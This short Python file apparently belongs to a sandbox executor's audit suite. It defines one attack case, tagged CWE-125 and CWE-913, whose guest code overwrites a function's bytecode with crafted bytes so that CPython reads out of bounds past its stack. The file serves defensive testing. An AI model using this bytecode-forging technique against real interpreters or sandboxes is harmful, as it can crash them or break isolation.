"""Run bytecode that reads past the stack"""

from executor.audit.attack import Attack, Harm

ATTACK = Attack(
    harm=Harm.BROKE,
    references=("CWE-125", "CWE-913"),
    guest="""
def function():
    return 1


text = bytes([100, 250] * 50 + [83, 0])
function.__code__ = function.__code__.replace(co_code=text, co_consts=())
function()
""",
)
